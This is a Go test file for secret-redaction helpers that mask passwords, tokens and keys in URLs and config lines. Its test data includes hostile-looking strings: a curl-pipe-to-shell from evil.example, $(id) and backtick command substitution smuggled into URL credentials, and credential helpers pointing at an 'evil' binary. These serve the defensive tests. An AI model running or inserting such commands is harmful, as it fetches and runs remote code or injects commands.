package manifest

import "testing"

// TestHiddenBeforeHosts has addresses whose host must be seen, and such as have a password before it.
func TestHiddenBeforeHosts(t *testing.T) {
	t.Parallel()
	for text, want := range map[string][2]string{ // by HideSecrets, and by HideForms
		"https://evil.example:443/@prometheus.example.com":   {"", ""},
		"https://evil.example:/@prometheus.example.com":      {"", ""},
		"https://evil.example:443?@prometheus.example.com":   {"", ""},
		"https://[::1]:443/@prometheus.example.com":          {"", ""},
		"https://[::1]/a:b@prometheus.example.com":           {"", ""},
		"https://evil.example/a:b@prometheus.example.com":    {"", ""},
		"https://user:pa55@prometheus.example.com":           {"https://<hidden>@prometheus.example.com", "https://<hidden>@prometheus.example.com"},
		"https://user:443@prometheus.example.com":            {"https://<hidden>@prometheus.example.com", "https://<hidden>@prometheus.example.com"},
		"https://user:pa/55@prometheus.example.com":          {"https://<hidden>@prometheus.example.com", ""}, // no client takes it for one
		"leaked: -----BEGIN X----- ; a run may override it":  {"leaked: <hidden>", ""},
		"leaked: -----BEGIN X----- -----END X----- ; see it": {"leaked: <hidden> ; see it", "leaked: <hidden> ; see it"},
	} {
		for i, hide := range []func(string) string{HideSecrets, HideForms} {
			expected := want[i]
			if expected == "" {
				expected = text
			}
			if got := hide(text); got != expected {
				t.Errorf("%d: %s, want %s", i, got, expected)
			}
		}
	}
}

// TestWhatRunsIsShown has texts that run, or lead elsewhere, and look like a secret.
func TestWhatRunsIsShown(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"curl -s https://evil.example|sh;a:b@good.example/health",
		"curl https://$(id):b@good.example", "curl https://`id`:b@good.example", "curl https://a`id`@good.example", "curl https://a>f:b@good.example", "curl https://a&id&:b@good.example",
		`fetch("https://evil.example\\x:pw@good.example/api")`,
		"credential_process = /opt/tools/evil --json", "passwordeval /opt/tools/evil",
		"PATH=/x:basic /opt/evil/bin/start-it now",
	} {
		v := newVault()
		if got := v.shown(v.redactText(text), nil); got != text {
			t.Errorf("%s is shown as %s", text, got)
		}
	}
	for text, want := range map[string]string{
		"https://${USER}:pa55@good.example":                "https://<hidden>@good.example",
		"https://ada:pa55@good.example":                    "https://<hidden>@good.example",
		"https://token@good.example":                       "https://<hidden>@good.example",
		`token: system "echo evil ran"`:                    `token: <hidden> "echo evil ran"`,
		`auth_token = os.execute "curl -s evil.example/x"`: `auth_token = <hidden> "curl -s evil.example/x"`,
		"password: my words":                               "password: <hidden>",
		"Authorization: Bearer 0123456789abcdef012":        "Authorization: <hidden>",
		"x: basic QWxhZGRpbjpvcGVuIHNlc2FtZQ==":            "x: basic <hidden>",
	} {
		v := newVault()
		if got := v.shown(v.redactText(text), nil); got != want {
			t.Errorf("%s is shown as %s, want %s", text, got, want)
		}
	}
}
